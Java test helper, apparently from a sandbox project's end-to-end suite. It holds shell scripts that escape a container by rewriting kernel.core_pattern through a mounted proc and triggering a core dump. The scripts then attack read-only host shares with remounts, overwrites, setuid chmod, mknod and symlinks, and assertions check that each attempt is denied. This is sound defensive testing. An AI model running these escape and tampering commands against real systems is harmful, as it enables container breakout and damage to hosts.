package dev.casemate.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * Scripts with which a container that has CAP_SYS_ADMIN does what only the guest's kernel and PID 1
 * can: the kernel runs a core dump's handler outside of all containers. The container's root must
 * have a static busybox.
 */
public final class GuestRoot {
  /** What is in a file that is shared read-only, and a directory's file of the name. */
  public static final String MARKER = "casemate-read-only";

  private static final String DENIED = "Read-only file system";

  /**
   * What an attack is after on the host.
   *
   * @param volume a directory that is to be shared read-only
   * @param file that is to be shared read-only
   * @param victim a file that is not shared
   */
  public record Prey(Path volume, Path file, Path victim) {
    /** Makes the files in a directory that is there. */
    public static Prey in(Path directory) {
      try {
        Path volume = Files.createDirectory(directory.resolve("volume"));
        Files.writeString(volume.resolve(MARKER), "content");
        return new Prey(
            volume,
            Files.writeString(directory.resolve("file"), MARKER),
            Files.writeString(directory.resolve("victim"), "important"));
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }

    /**
     * A script for the container that attacks the host's side of the shares: writes to all that
     * holds {@link #MARKER}, and plants links, pipes, devices, directories and files where the next
     * mount points will be. Links lead to the victim.
     */
    public String attack() {
      return GuestRoot.attack(victim);
    }

    public void assertUnharmed() {
      assertThat(volume.toFile().list()).containsExactly(MARKER);
      assertThat(volume.resolve(MARKER)).hasBinaryContent(bytes("content"));
      assertThat(file).hasBinaryContent(bytes(MARKER));
      assertThat(victim).hasBinaryContent(bytes("important"));
    }

    private static byte[] bytes(String text) {
      return text.getBytes(StandardCharsets.UTF_8);
    }
  }

  private GuestRoot() {}

  /**
   * A script for the container; it writes what the commands write.
   *
   * @param commands of a shell with the guest's root; {@code $B} is busybox
   */
  public static String script(String commands) {
    return """
    test -d /.p || { mkdir /.p && mount -t proc proc /.p; } || exit 1
    cat > /.h <<'HANDLER'
    B=/proc/$1/root/bin/busybox
    {
    %s
    } > /proc/$1/root/.out 2>&1
    HANDLER
    rm -f /.out
    echo 4 > /.p/sys/kernel/core_pipe_limit
    echo '|/proc/%%P/root/bin/busybox sh /proc/%%P/root/.h %%P' > /.p/sys/kernel/core_pattern
    sh -c 'kill -SEGV $$' > /dev/null 2>&1
    i=0; while [ ! -e /.out ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done
    cat /.out
    """
        .formatted(commands);
  }

  private static String attack(Path victim) {
    return script(
        """
        S=/run/kata-containers/shared/containers
        echo "uid $($B id -u), $($B ls $S | $B wc -l) shares"
        $B mount -o remount,rw $S
        for share in $S/*; do
          if [ -f $share ] && $B grep -q %1$s $share; then
            echo "file:"
            echo PWNED > $share
            $B chmod 4755 $share
          elif [ -f $share/%1$s ]; then
            echo "directory:"
            $B mount -o remount,bind,rw $share
            echo PWNED > $share/%1$s
            $B rm -f $share/%1$s
            $B touch $share/new
            $B mknod $share/device b 8 0
          fi
        done
        next=0
        while [ -e $S/$next ]; do next=$((next+1)); done
        echo "planting from $next:"
        for name in $next $((next+1)) $((next+2)) $((next+3)) hosts; do
          $B ln -s %2$s $S/$name
          $B mkfifo $S/$name
          $B mknod $S/$name c 10 130
          $B mkdir $S/$name
          echo PWNED > $S/$name
        done
        $B ls -a $S | $B sort > /proc/$1/root/.listed
        echo "attacked"
        """
            .formatted(MARKER, victim));
  }

  /** Checks that an attack on {@code files} shared files and directories got nowhere. */
  public static void assertRepelled(String output, int files, int directories) {
    assertThat(output).startsWith("uid 0, ").endsWith("attacked\n");
    String volumes = output.substring(0, output.indexOf("planting"));
    assertThat(volumes.split("file:\n", -1)).as(output).hasSize(files + 1);
    assertThat(volumes.split("directory:\n", -1)).as(output).hasSize(directories + 1);
    assertThat(volumes.split(DENIED, -1))
        .as(output)
        .hasSizeGreaterThan(2 * files + 4 * directories);
    String planted = output.substring(output.indexOf("planting"));
    assertThat(planted.split(DENIED, -1)).as(output).hasSize(5 * 5 + 1);
  }
}
